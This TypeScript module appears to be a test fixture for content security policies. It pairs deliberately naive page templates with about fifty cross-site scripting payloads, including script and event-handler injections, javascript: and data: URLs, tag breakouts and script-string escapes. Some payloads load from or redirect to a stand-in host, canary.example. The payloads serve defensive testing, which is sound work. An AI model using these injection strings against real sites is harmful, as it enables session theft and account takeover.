/**
 * Texts that run a script where a page inserts them unescaped, each with the context in which it runs. A naive page
 * with that context is the control: a payload that does not run there could not find anything.
 */
type PayloadContext = keyof typeof naivePlaces;
type Payload = {
  place: PayloadContext;
  text: (run: string, canary: string) => string;
  /** Whether the payload navigates away, which a policy does not prevent. */
  leaves?: true;
};

/** The pages of a careless author. `nonce` is the attribute that a strict policy requires of the page's own scripts. */
const naivePlaces = {
  text: (text: string) => `<p>${text}</p>`,
  doubleQuoted: (text: string) => `<input value="${text}">`,
  singleQuoted: (text: string) => `<input value='${text}'>`,
  unquoted: (text: string) => `<input value=${text}>`,
  link: (text: string) => `<a id="link" href="${text.replaceAll('"', "&quot;")}">a link</a>`,
  frame: (text: string) => `<iframe src="${text.replaceAll('"', "&quot;")}"></iframe>`,
  title: (text: string) => `<title>${text}</title>`,
  textarea: (text: string) => `<textarea>${text}</textarea>`,
  style: (text: string) => `<style>p { content: "${text}" }</style>`,
  noscript: (text: string) => `<noscript>${text}</noscript>`,
  comment: (text: string) => `<!-- ${text} -->`,
  json: (text: string, nonce: string) => `<script ${nonce}>window.data = ${JSON.stringify({ text })}</script>`,
  doubleQuotedScript: (text: string, nonce: string) => `<script ${nonce}>window.data = "${text}"</script>`,
  singleQuotedScript: (text: string, nonce: string) => `<script ${nonce}>window.data = '${text}'</script>`,
  halfEscapedScript: (text: string, nonce: string) =>
    `<script ${nonce}>window.data = "${text.replaceAll('"', '\\"')}"</script>`,
  templateScript: (text: string, nonce: string) => `<script ${nonce}>window.data = \`${text}\`</script>`,
  lineComment: (text: string, nonce: string) => `<script ${nonce}>// ${text}\n</script>`,
  blockComment: (text: string, nonce: string) => `<script ${nonce}>/* ${text} */</script>`,
  unescaped: (text: string, nonce: string) =>
    `<p id="p">${text}</p><script ${nonce}>p.innerHTML = p.textContent</script>`,
  unquotedScript: (text: string, nonce: string) =>
    `<p id="p"></p><script ${nonce}>p.innerHTML = "${text.replaceAll('"', "")}"</script>`,
  uriDecoded: (text: string, nonce: string) =>
    `<p id="p"></p><script ${nonce}>p.innerHTML = decodeURIComponent("${text}")</script>`,
};

/** Contexts inside a script that the page itself allows, which no policy can distinguish. */
const insideScripts: readonly PayloadContext[] = [
  "doubleQuotedScript",
  "singleQuotedScript",
  "halfEscapedScript",
  "templateScript",
  "lineComment",
  "blockComment",
];

const list: Payload[] = [
  { place: "text", text: (run) => `<script>${run}</script>` },
  { place: "text", text: (run) => `<ScRiPt/x>${run}</sCrIpT >` },
  { place: "text", text: (run) => `<script src="data:text/javascript,${run}"></script>` },
  { place: "text", text: (_run, canary) => `<script src="${canary}"></script>` },
  { place: "text", text: (run) => `<img src=x onerror=${run}>` },
  { place: "text", text: (run) => `<image/src=x\nonerror\f=${run}//` },
  { place: "text", text: (run) => `<svg onload=${run}>` },
  { place: "text", text: (run) => `<svg/onload=${run}//` },
  { place: "text", text: (run) => `<svg><script>${run.replaceAll("_", "&#95;")}</script></svg>` },
  { place: "text", text: (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>` },
  { place: "text", text: (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>` },
  { place: "text", text: (run) => `<iframe src="javascript:parent.${run}"></iframe>` },
  { place: "text", text: (run) => `<object data="data:text/html,<script>${run}</script>"></object>` },
  { place: "text", text: (run) => `<details open ontoggle=${run}>x</details>` },
  { place: "text", text: (run) => `<input autofocus onfocus=${run}>` },
  { place: "text", text: (run) => `<video><source onerror=${run}></video>` },
  { place: "text", text: (run) => `<audio src=x onerror=${run}>` },
  { place: "text", text: (run) => `<style onload=${run}></style>` },
  { place: "text", text: (run) => `<link rel=stylesheet href="data:text/css," onload=${run}>` },
  {
    place: "text",
    text: (run) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${run}>b</b>`,
  },
  {
    place: "text",
    text: (run) => `<span><template shadowrootmode=open><img src=x onerror=${run}></template></span>`,
  },
  { place: "text", leaves: true, text: (_run, canary) => `<meta http-equiv="refresh" content="0;url=${canary}">` },
  { place: "text", text: (run) => `<!--><img src=x onerror=${run}>-->` },
  { place: "doubleQuoted", text: (run) => `"><script>${run}</script>` },
  { place: "doubleQuoted", text: (run) => `" autofocus onfocus="${run}` },
  { place: "singleQuoted", text: (run) => `' autofocus onfocus='${run}` },
  { place: "unquoted", text: (run) => `x autofocus onfocus=${run}` },
  { place: "link", text: (run) => `javascript:${run}` },
  { place: "link", text: (run) => `\u0001 JaVaScRiPt:${run}` },
  { place: "link", text: (run) => `java\tscript\n:${run}` },
  { place: "link", text: (run) => `javascript://shop.example.com/%0a${run}` },
  { place: "frame", text: (run) => `data:text/html,<script>${run}</script>` },
  { place: "title", text: (run) => `</title><script>${run}</script>` },
  { place: "textarea", text: (run) => `</textarea><img src=x onerror=${run}>` },
  { place: "style", text: (run) => `</style><script>${run}</script>` },
  { place: "noscript", text: (run) => `</noscript><img src=x onerror=${run}>` },
  { place: "comment", text: (run) => `--><script>${run}</script>` },
  { place: "json", text: (run) => `</script><script>${run}</script>` },
  { place: "doubleQuotedScript", text: (run) => `";${run};//` },
  { place: "singleQuotedScript", text: (run) => `';${run};//` },
  { place: "halfEscapedScript", text: (run) => `\\";${run};//` },
  { place: "templateScript", text: (run) => `\${${run}}` },
  { place: "lineComment", text: (run) => `\u2028${run}//` },
  { place: "blockComment", text: (run) => `*/${run}/*` },
  { place: "unescaped", text: (run) => `&lt;img src=x onerror=${run}&gt;` },
  { place: "unquotedScript", text: (run) => `\\u003cimg src=x onerror=${run}\\u003e` },
  { place: "uriDecoded", text: (run) => `%3Cimg src=x onerror=${run}%3E` },
];

export const payloadCount = list.length;
export const canaryHost = "canary.example";

/** Returns the payload at this index, starting over after the last one; `id` is what it reports when it runs. */
export function payload(index: number, id: number): string {
  const made = list[index % list.length];
  return made?.text(`__xss(${id})`, `https://${canaryHost}/${id}`) ?? "";
}

/** Returns the page on which the payload runs unless a policy blocks it. */
export function naivePage(index: number, { policy = "", nonce = "" } = {}): string {
  const place = list[index % list.length]?.place ?? "text";
  const meta = policy && `<meta http-equiv="Content-Security-Policy" content="${policy.replaceAll('"', "&quot;")}">`;
  return `<!doctype html>${meta}${naivePlaces[place](payload(index, index), nonce && `nonce="${nonce}"`)}`;
}

/** Returns whether a content security policy can stop the payload. */
export function withinPolicy(index: number): boolean {
  const found = list[index % list.length];
  return found !== undefined && !found.leaves && !insideScripts.includes(found.place);
}
